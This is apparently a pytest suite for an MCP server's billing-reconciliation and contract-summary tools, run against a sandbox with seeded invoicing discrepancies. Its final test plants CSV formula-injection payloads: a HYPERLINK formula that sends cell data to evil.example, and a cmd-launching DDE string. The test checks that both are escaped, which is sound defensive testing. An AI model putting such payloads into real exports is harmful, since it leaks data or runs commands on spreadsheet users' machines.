"""Reconciliation and report tools end to end: MCP in-memory client -> server -> HaloClient ->
the sandbox (in-process) and its generated book with deliberate billing discrepancies."""

from __future__ import annotations

import csv
import io
import math
from datetime import date, timedelta
from decimal import Decimal as D
from typing import Any

import pytest
from mcp import Client

from halo_contracts.config import load_settings
from halo_contracts.sandbox import SandboxConfig, create_app, transport
from halo_contracts.sandbox.logic import month_end
from halo_contracts.server import build_server
from support.spec import SpecCheckingTransport

pytestmark = pytest.mark.anyio

TODAY = date(2026, 11, 20)
# the sandbox's names for the seeded discrepancies -> ours
KIND = {"missing_month": "missing_invoice", "under_billed": "under_billed",
        "billed_after_end": "billed_after_contract_end", "duplicate_invoice": "duplicate_invoice",
        "billed_while_inactive": "billed_while_not_active"}


@pytest.fixture(scope="module")
def sandbox_app():
    return create_app(SandboxConfig(clients=12, contracts=90, today=TODAY, rate_limit=1_000_000))


@pytest.fixture
def sb(sandbox_app):
    sandbox = sandbox_app.state.sandbox
    sandbox.log.clear()
    return sandbox


@pytest.fixture
def book(sb):
    return sb.book


@pytest.fixture
def checked(sandbox_app):
    """Every request is checked against Halo's OpenAPI slice."""
    spec = SpecCheckingTransport(transport(sandbox_app))
    yield spec
    spec.assert_clean()


@pytest.fixture
def server(checked, sb, tmp_path):
    settings = load_settings(base_url="http://sandbox", client_id="sandbox-client", client_secret="sandbox-secret",
                             rate_limit="1000000/1", tools="reconciliation,reports")
    return build_server(settings, transport=checked, journal_path=tmp_path / "j.sqlite3", extras={"today": TODAY})


async def call(server, tool: str, progress: list | None = None, **args: Any) -> dict[str, Any]:
    async def on_progress(done, total, message):
        progress.append((done, total, message))

    async with Client(server) as client:
        result = await client.call_tool(tool, args, progress_callback=on_progress if progress is not None else None)
    assert not result.is_error, result.content[0].text
    return result.structured_content


async def call_error(server, tool: str, **args: Any) -> str:
    async with Client(server) as client:
        result = await client.call_tool(tool, args)
    assert result.is_error
    return result.content[0].text


def window(book) -> dict[str, str]:
    return {"period_start": book.billing_months[0].isoformat(),
            "period_end": month_end(book.billing_months[-1]).isoformat()}


def api_requests(sb) -> int:
    return sb.log.count(path_prefix="/api")


def pages(n: int) -> int:
    return max(1, math.ceil(n / 100))


# ---- the whole book ----------------------------------------------------------------------------


async def test_bulk_finds_every_seeded_discrepancy_and_nothing_on_clean_contracts(server, sb, book):
    assert {d.kind for d in book.discrepancies} == set(KIND)
    out = await call(server, "reconcile_billing", detail="full", limit=1000, **window(book))
    listed = {row["contract_id"]: row for row in out["contracts"]}
    for d in book.discrepancies:
        row = listed[d.contract_id]
        found = [(f["kind"], f["amount"]) for f in row["findings"]]
        assert (KIND[d.kind], str(d.amount)) in found, (d, found)
        evidence = next(f for f in row["findings"] if f["kind"] == KIND[d.kind])
        if d.invoice_id is not None:
            assert d.invoice_id in evidence["invoice_ids"]
    for cid in book.clean_contract_ids:
        kinds = {f["kind"] for f in listed.get(cid, {"findings": []})["findings"]}
        assert kinds <= {"unbilled_time"}, (cid, listed[cid]["findings"])
    # nothing else is reported anywhere but unbilled time
    seeded = {d.contract_id for d in book.discrepancies}
    for cid, row in listed.items():
        if cid not in seeded:
            assert {f["kind"] for f in row["findings"]} == {"unbilled_time"}, row
    # most money in question first; owed and to-collect reported apart, and they add up by kind
    stakes = [D(r["owed_to_client"]) + D(r["to_collect"]) for r in out["contracts"]]
    assert stakes == sorted(stakes, reverse=True)
    by_kind = {k["kind"]: D(k["amount"]) for k in out["totals"]["by_kind"]}
    owed = ("over_billed", "billed_after_contract_end", "billed_while_not_active", "duplicate_invoice")
    collect = ("missing_invoice", "under_billed", "unbilled_time")
    assert D(out["totals"]["owed_to_clients"]) == sum((by_kind.get(k, D(0)) for k in owed), D(0)) > 0
    assert D(out["totals"]["to_collect"]) == sum((by_kind.get(k, D(0)) for k in collect), D(0)) > 0
    assert "at_stake" not in out["totals"]
    for r in out["contracts"]:
        mine = {f["kind"]: D(0) for f in r["findings"]}
        for f in r["findings"]:
            mine[f["kind"]] += D(f["amount"])
        assert D(r["owed_to_client"]) == sum((v for k, v in mine.items() if k in owed), D(0))
        assert D(r["to_collect"]) == sum((v for k, v in mine.items() if k in collect), D(0))
    assert out["totals"]["contracts_listed"] == len(out["contracts"]) and not out["truncated"]


async def test_bulk_reads_one_paged_sweep_per_record_kind(server, sb, book):
    progress: list = []
    out = await call(server, "reconcile_billing", detail="full", progress=progress, **window(book))
    reads = out["records_read"]
    assert reads["contracts"] == len(book.contract_ids)
    assert reads["recurring_invoices"] == len(book.recurring_header_ids)
    assert reads["invoices"] == len(book.invoice_ids)
    minimum = pages(reads["contracts"]) + pages(reads["recurring_invoices"]) + pages(reads["invoices"]) + 1
    # the sandbox prices every unbilled entry itself: no contract detail is needed; one read of where
    # the billing history starts
    assert api_requests(sb) == minimum + 1 == reads["pages"] + 1 == reads["requests"] and reads["contract_details"] == 0
    earliest = [e for e in sb.log if e.path.lower() == "/api/invoice" and e.query.get("order") == "invoice_date"]
    assert reads["history"] == 1 and len(earliest) == 1 and earliest[0].query.get("orderdesc") == "false"
    assert sb.log.count(path_prefix="/api/Invoice") == pages(reads["invoices"]) + 1
    assert sb.log.count(path_prefix="/api/ClientContract") == pages(reads["contracts"])
    # progress: one report per page and a last one; never going back; ends at its total
    assert len(progress) == minimum + 1
    done = [p[0] for p in progress]
    assert done == sorted(done) and progress[-1][0] == progress[-1][1]


async def test_unbilled_time_matches_the_book(server, book):
    out = await call(server, "reconcile_billing", detail="full", limit=1000,
                     period_start=(TODAY - timedelta(days=365)).isoformat(), period_end=TODAY.isoformat())
    unbilled = {r["contract_id"]: f for r in out["contracts"] for f in r["findings"] if f["kind"] == "unbilled_time"}
    assert book.unbilled_amount
    assert {cid: D(f["amount"]) for cid, f in unbilled.items()} == book.unbilled_amount
    ids = sorted(i for f in unbilled.values() for i in f["time_entry_ids"])
    assert ids == sorted(book.unbilled_action_ids)


async def test_one_client_only(server, sb, book):
    d = book.discrepancies[0]
    one = await call(server, "reconcile_contract_billing", contract_id=d.contract_id, **window(book))
    client_id = one["reconciliation"]["client_id"]
    sb.log.clear()
    out = await call(server, "reconcile_billing", detail="full", client_id=client_id, **window(book))
    assert out["contracts"] and {r["client_id"] for r in out["contracts"]} == {client_id}
    assert d.contract_id in {r["contract_id"] for r in out["contracts"]}
    assert api_requests(sb) == out["records_read"]["pages"] + 1 == out["records_read"]["requests"] == 5


async def test_min_variance_and_csv_parse_back(server, book):
    everything = await call(server, "reconcile_billing", detail="full", limit=1000, **window(book))
    big = await call(server, "reconcile_billing", detail="full", min_variance=1000, **window(book))
    assert big["contracts"] and all(max(D(r["owed_to_client"]), D(r["to_collect"])) >= 1000 for r in big["contracts"])
    assert len(big["contracts"]) < len(everything["contracts"])
    assert big["totals"] == {**everything["totals"], "contracts_listed": len(big["contracts"])}
    as_csv = await call(server, "reconcile_billing", detail="full", format="csv", **window(book))
    assert as_csv["contracts"] == []
    rows = list(csv.DictReader(io.StringIO(as_csv["csv"])))
    expected = {(r["contract_id"], f["kind"], D(f["amount"])) for r in everything["contracts"] for f in r["findings"]}
    assert {(int(r["contract_id"]), r["finding_kind"], D(r["finding_amount"])) for r in rows} == expected
    per_contract = {int(r["contract_id"]): (D(r["expected_recurring"]), D(r["billed"]), D(r["variance"]))
                    for r in rows}
    for r in everything["contracts"]:
        assert per_contract[r["contract_id"]] == (D(r["expected_recurring"]), D(r["billed"]), D(r["variance"]))


# ---- one contract ---------------------------------------------------------------------------------


async def test_each_discrepancy_on_its_own_contract_and_period(server, sb, book):
    for d in book.discrepancies:
        sb.log.clear()
        out = await call(server, "reconcile_contract_billing", contract_id=d.contract_id,
                         period_start=d.period_start.isoformat(), period_end=d.period_end.isoformat())
        r = out["reconciliation"]
        assert (KIND[d.kind], str(d.amount)) in [(f["kind"], f["amount"]) for f in r["findings"]], (d, r["findings"])
        # get contract, where the history starts, recurring invoice(s), the client's invoices, time: no
        # request per invoice
        assert api_requests(sb) == 5


async def test_clean_contract_and_its_csv(server, book):
    cid = book.clean_contract_ids[0]
    out = await call(server, "reconcile_contract_billing", contract_id=cid, format="csv", **window(book))
    r = out["reconciliation"]
    assert [f for f in r["findings"] if f["kind"] != "unbilled_time"] == []
    assert D(r["billed"]) == D(r["expected_recurring"]) > 0 and D(r["variance"]) == 0
    rows = list(csv.DictReader(io.StringIO(out["csv"])))
    assert {(D(x["expected_recurring"]), D(x["billed"])) for x in rows} == {(D(r["expected_recurring"]),
                                                                            D(r["billed"]))}


async def test_mixed_invoice_is_split_between_its_contracts(server, book):
    assert book.mixed_invoice_ids
    mixed = book.mixed_invoice_ids[0]
    out = await call(server, "reconcile_billing", detail="full", limit=1000, **window(book))
    for row in out["contracts"]:
        for f in row["findings"]:
            assert mixed not in f["invoice_ids"] or f["kind"] == "unbilled_time"


# ---- validation: field, rule, fix; nothing sent ------------------------------------------------


@pytest.mark.parametrize(("tool", "args", "field"), [
    ("reconcile_billing", {"period_start": "2026-02-01", "period_end": "2026-01-31"}, "period_end"),
    ("reconcile_billing", {"period_start": "2025-01-01", "period_end": "2026-01-31"}, "period_end"),
    ("reconcile_billing", {"period_start": "2026-01-01", "period_end": "2026-01-31", "min_variance": -5},
     "min_variance"),
    ("reconcile_billing", {"period_start": "2026-01-01", "period_end": "2026-02-30"}, "period_end"),
    ("reconcile_billing", {"period_start": "2026-01-01", "period_end": "2026-01-31", "format": "xml"}, "format"),
    ("reconcile_contract_billing", {"contract_id": 1001, "period_start": "2026-03-01", "period_end": "2026-02-01"},
     "period_end"),
    ("reconcile_contract_billing", {"contract_id": "1001", "period_start": "2026-01-01", "period_end": "2026-01-31"},
     "contract_id"),
    ("summarize_contracts", {"group_by": "colour"}, "group_by"),
    ("summarize_contracts", {"group_by": "client", "status": "Dormant"}, "status"),
])
async def test_invalid_input_names_the_field_and_sends_nothing(server, sb, tool, args, field):
    text = await call_error(server, tool, **args)
    assert field in text
    assert api_requests(sb) == 0 and sb.log.count(path_prefix="/auth") == 0


async def test_unknown_contract_is_a_clear_error(server):
    text = await call_error(server, "reconcile_contract_billing", contract_id=999999, period_start="2026-01-01",
                            period_end="2026-01-31")
    assert "404" in text or "not found" in text.lower()


# ---- portfolio summary -----------------------------------------------------------------------------


async def test_value_by_client_one_sweep_highest_first(server, sb, book):
    progress: list = []
    out = await call(server, "summarize_contracts", progress=progress, group_by="client")
    assert out["scope"] == "current" and out["contracts_not_current"] > 0
    assert out["contracts"] + out["contracts_not_current"] == len(book.contract_ids)
    assert api_requests(sb) == pages(len(book.contract_ids)) + pages(len(book.recurring_header_ids)) \
        == out["records_read"]["pages"]
    assert sb.log.count(path_prefix="/api/Client?") == 0 and len(progress) == out["records_read"]["pages"]
    arr = [D(g["annual_recurring_revenue"]) for g in out["groups"]]
    assert arr == sorted(arr, reverse=True)
    assert sum(arr, D(0)) == D(out["annual_recurring_revenue"])
    assert sum(g["contracts"] for g in out["groups"]) == out["contracts"]
    assert {g["client_id"] for g in out["groups"]} <= set(book.client_ids)


@pytest.mark.parametrize("group_by", ["status", "type", "billing_frequency", "client"])
async def test_summary_csv_parses_back_to_the_same_numbers(server, group_by):
    as_json = await call(server, "summarize_contracts", group_by=group_by)
    as_csv = await call(server, "summarize_contracts", group_by=group_by, format="csv")
    rows = list(csv.DictReader(io.StringIO(as_csv["csv"])))
    assert rows[-1]["group"] == "TOTAL"
    assert [(r["group"], int(r["contracts"]), r["total_value"], r["annual_recurring_revenue"]) for r in rows[:-1]] == [
        (g["group"], g["contracts"], g["total_value"], g["annual_recurring_revenue"]) for g in as_json["groups"]]
    assert (D(rows[-1]["total_value"]), D(rows[-1]["annual_recurring_revenue"])) == (
        D(as_json["total_value"]), D(as_json["annual_recurring_revenue"]))


async def test_summary_by_status_filter(server, book):
    out = await call(server, "summarize_contracts", group_by="type", status="active", scope="all")
    assert out["status"] == "Active"
    assert out["contracts"] == len(book.contracts_by_status["Active"])
    current = await call(server, "summarize_contracts", group_by="type", status="active")
    assert current["contracts"] + current["contracts_not_current"] == out["contracts"]


async def test_only_contracts_billing_today_have_recurring_revenue(server, book):
    everything = await call(server, "summarize_contracts", group_by="status", scope="all")
    groups = {g["group"]: g for g in everything["groups"]}
    assert {"Expired", "Cancelled", "On Hold", "Pending"} <= set(groups)
    for name in ("Expired", "Cancelled", "On Hold", "Pending"):
        assert groups[name]["annual_recurring_revenue"] == "0.00", groups[name]
        assert groups[name]["contracts"] == len(book.contracts_by_status[name])
    current = await call(server, "summarize_contracts", group_by="status")
    assert {g["group"] for g in current["groups"]} == {"Active"}
    # the default leaves out what does not bill today, and the revenue is the same either way
    assert current["annual_recurring_revenue"] == everything["annual_recurring_revenue"] == \
        groups["Active"]["annual_recurring_revenue"]
    assert current["contracts"] + current["contracts_not_current"] == everything["contracts"]
    assert D(current["total_value"]) < D(everything["total_value"])


async def test_a_sweep_that_fails_is_a_clear_error(server, sb, book):
    sb.deny("/api/Invoice")
    try:
        text = await call_error(server, "reconcile_billing", **window(book))
    finally:
        sb.allow("/api/Invoice")
    assert "permission" in text.lower() and "/Invoice" in text
    assert text.strip() != "Error executing tool reconcile_billing"


# ---- prepaid time priced the same by both tools; CSV that a spreadsheet cannot run ---------------


@pytest.fixture
def own_app():
    """A small book of this test's own (the shared one is left as the sandbox made it)."""
    return create_app(SandboxConfig(clients=5, contracts=40, today=TODAY, rate_limit=1_000_000))


def own_server(app, tmp_path):
    settings = load_settings(base_url="http://sandbox", client_id="sandbox-client", client_secret="sandbox-secret",
                             rate_limit="1000000/1", tools="reconciliation,reports")
    return build_server(settings, transport=SpecCheckingTransport(transport(app)),
                        journal_path=tmp_path / "own.sqlite3", extras={"today": TODAY})


async def test_prepaid_unbilled_time_is_priced_alike_by_both_tools(own_app, tmp_path):
    sandbox = own_app.state.sandbox
    book = sandbox.book
    prepaid = next(cid for cid in book.contracts_by_type["Prepaid Hours"]
                   if cid in book.contracts_by_status["Active"])
    month = book.billing_months[-2]
    # billable time on the block, beyond it (no prepay hours), with no charge amount: 2.5 h
    sandbox.store.insert("actions", {
        "ticket_id": 0, "datetime": f"{month.isoformat()}T10:00:00", "timetaken": 2.5, "actisbillable": True,
        "actioncontractid": prepaid, "action_contract_id": prepaid, "actionchargehours": 2.5,
        "actionchargeamount": 0.0, "actionprepayhours": 0.0, "actioninvoicenumber": ""})
    period = {"period_start": month.isoformat(), "period_end": month_end(month).isoformat()}
    server = own_server(own_app, tmp_path)
    sandbox.log.clear()
    progress: list = []
    bulk = await call(server, "reconcile_billing", detail="full", progress=progress, limit=1000, **period)
    reads = bulk["records_read"]
    # one detail read for the one contract that needs the block rate, and it is accounted for
    assert reads["contract_details"] == 1 and reads["requests"] == reads["pages"] + 2 == api_requests(sandbox)
    assert sandbox.log.count(path_prefix=f"/api/ClientContract/{prepaid}") == 1
    assert progress[-1][0] == progress[-1][1] == reads["requests"]
    row = next(r for r in bulk["contracts"] if r["contract_id"] == prepaid)
    # the block's rate is its price / its hours: 125.00 an hour in the sandbox -> 2.5 h = 312.50
    assert (row["unbilled_time"]["amount"], row["unbilled_time"]["unpriced_entries"]) == ("312.50", 0)
    one = await call(server, "reconcile_contract_billing", contract_id=prepaid, **period)
    assert one["reconciliation"]["unbilled_time"] == row["unbilled_time"]


async def test_csv_text_from_halo_cannot_run_as_a_formula(own_app, tmp_path):
    sandbox = own_app.state.sandbox
    cid = sandbox.book.clean_contract_ids[0]
    doc = sandbox.store.get("contracts", cid)
    doc["ref"] = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    sandbox.store.put("contracts", doc)
    client = sandbox.store.get("clients", doc["client_id"])
    client["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    sandbox.store.put("clients", client)
    server = own_server(own_app, tmp_path)
    out = await call(server, "reconcile_contract_billing", contract_id=cid, format="csv", **window(sandbox.book))
    rows = list(csv.DictReader(io.StringIO(out["csv"])))
    assert {r["contract_ref"] for r in rows} == {"'" + doc["ref"]}
    assert {r["client_name"] for r in rows} == {"'" + client["name"]}
    # the JSON answer keeps Halo's own text, and the CSV's numbers still parse as the JSON's
    assert out["reconciliation"]["contract_ref"] == doc["ref"]
    assert {D(r["expected_recurring"]) for r in rows} == {D(out["reconciliation"]["expected_recurring"])}
    summary = await call(server, "summarize_contracts", group_by="client", format="csv")
    groups = [r["group"] for r in csv.DictReader(io.StringIO(summary["csv"]))]
    assert "'" + client["name"] in groups and client["name"] not in groups
